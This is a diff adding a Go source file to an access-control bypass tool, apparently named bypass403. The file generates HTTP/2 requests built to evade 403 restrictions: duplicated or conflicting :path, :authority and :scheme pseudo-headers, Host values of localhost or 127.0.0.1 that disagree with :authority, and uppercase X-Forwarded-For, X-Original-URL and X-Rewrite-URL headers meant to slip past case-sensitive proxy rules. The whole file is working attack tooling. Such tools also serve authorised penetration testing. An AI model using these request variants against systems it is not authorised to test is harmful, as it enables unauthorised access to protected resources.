@@ -0,0 +1,129 @@
+package bypass
+
+import (
+	"strings"
+
+	"github.com/ibrahimsql/bypass403/pkg/http"
+)
+
+// TestHTTP2 sends the request as raw HTTP/2 frames, with the pseudo-headers
+// edges and backends may read differently: duplicated or conflicting :path,
+// :authority and :scheme, an :authority that disagrees with Host, and header
+// names in uppercase, which HTTP/2 forbids and some proxies match rules on
+// case-sensitively. Malformed requests are often rejected with a stream
+// reset, which shows up as an error rather than a result.
+func TestHTTP2(baseURL string, config Config) ([]Attempt, error) {
+	var attempts []Attempt
+	origin, path, query, err := splitTarget(baseURL)
+	if err != nil {
+		return attempts, err
+	}
+	target := withQuery(path, query)
+	scheme := "https"
+	if strings.HasPrefix(strings.ToLower(origin), "http://") {
+		scheme = "http"
+	}
+	host := parseDomain(baseURL)
+
+	// The plain request, to see whether the HTTP/2 path is filtered at all
+	if req, err := newRequest(config.method(), origin, target, config); err == nil {
+		req.Proto = http.ProtoHTTP2
+		attempts = append(attempts, Attempt{Request: req, Technique: "HTTP/2: plain request"})
+	}
+
+	// pseudo returns the pseudo-headers of a well-formed request, to be
+	// added to or rearranged by each variant
+	pseudo := func(authority, path string) [][2]string {
+		return [][2]string{{":method", config.method()}, {":scheme", scheme}, {":authority", authority}, {":path", path}}
+	}
+
+	// Each variant's pseudo-headers open the header block and its extra
+	// fields close it, around the configured headers
+	variants := []struct {
+		Name   string
+		Pseudo [][2]string
+		Extra  [][2]string
+	}{
+		{"duplicate :path, allowed first", append(pseudo(host, "/"), [2]string{":path", target}), nil},
+		{"duplicate :path, forbidden first", append(pseudo(host, target), [2]string{":path", "/"}), nil},
+		{"duplicate :authority", append(pseudo(host, target), [2]string{":authority", "localhost"}), nil},
+		{"conflicting :scheme", append(pseudo(host, target), [2]string{":scheme", otherScheme(scheme)}), nil},
+		{"absolute :path", pseudo(host, scheme+"://"+host+target), nil},
+		{":path after regular header", pseudo(host, target)[:3], [][2]string{{"accept", "*/*"}, {":path", target}}},
+		{":authority vs Host localhost", pseudo(host, target), [][2]string{{"host", "localhost"}}},
+		{":authority localhost vs Host", pseudo("localhost", target), [][2]string{{"host", host}}},
+		{":authority vs Host 127.0.0.1", pseudo(host, target), [][2]string{{"host", "127.0.0.1"}}},
+		{"Host without :authority", [][2]string{{":method", config.method()}, {":scheme", scheme}, {":path", target}}, [][2]string{{"host", "localhost"}}},
+	}
+
+	for _, v := range variants {
+		req, err := newHTTP2Request(origin, target, config, v.Pseudo, v.Extra)
+		if err != nil {
+			continue
+		}
+		attempts = append(attempts, Attempt{Request: req, Technique: "HTTP/2: " + v.Name})
+	}
+
+	// Uppercase names slip past rules that only match the lowercase form
+	// HTTP/2 requires, while backends fold them like HTTP/1.1 headers
+	uppercase := []struct {
+		Header string
+		Value  string
+		Path   string
+	}{
+		{"X-Forwarded-For", "127.0.0.1", target},
+		{"X-Real-IP", "127.0.0.1", target},
+		// Rewrite headers point the backend at the target from an allowed path
+		{"X-Original-URL", target, "/"},
+		{"X-Rewrite-URL", target, "/"},
+		{"Host", "localhost", target},
+	}
+	for _, h := range uppercase {
+		name := strings.ToUpper(h.Header)
+		req, err := newHTTP2Request(origin, target, config, pseudo(host, h.Path), [][2]string{{name, h.Value}})
+		if err != nil {
+			continue
+		}
+		attempts = append(attempts, Attempt{Request: req, Technique: "HTTP/2: uppercase " + name})
+	}
+
+	return attempts, nil
+}
+
+// newHTTP2Request builds an HTTP/2 request whose header block is sent
+// verbatim: the given pseudo-headers, the configured headers lowercased as
+// HTTP/2 requires, then extra. Host and the connection headers HTTP/2
+// forbids are dropped; variants that want Host add it to extra.
+func newHTTP2Request(origin, target string, config Config, pseudo, extra [][2]string) (*http.Request, error) {
+	req, err := newRequest(config.method(), origin, target, config)
+	if err != nil {
+		return nil, err
+	}
+	req.Proto = http.ProtoHTTP2
+
+	var headers []http.Header
+	for _, f := range pseudo {
+		headers = append(headers, http.Header{Name: f[0], Value: f[1]})
+	}
+	for _, h := range req.Headers {
+		switch strings.ToLower(h.Name) {
+		case "host", "connection":
+			continue
+		}
+		headers = append(headers, http.Header{Name: strings.ToLower(h.Name), Value: h.Value})
+	}
+	for _, f := range extra {
+		headers = append(headers, http.Header{Name: f[0], Value: f[1]})
+	}
+	req.Headers = headers
+
+	return req, nil
+}
+
+// otherScheme returns the scheme a request isn't using
+func otherScheme(scheme string) string {
+	if scheme == "https" {
+		return "http"
+	}
+	return "https"
+}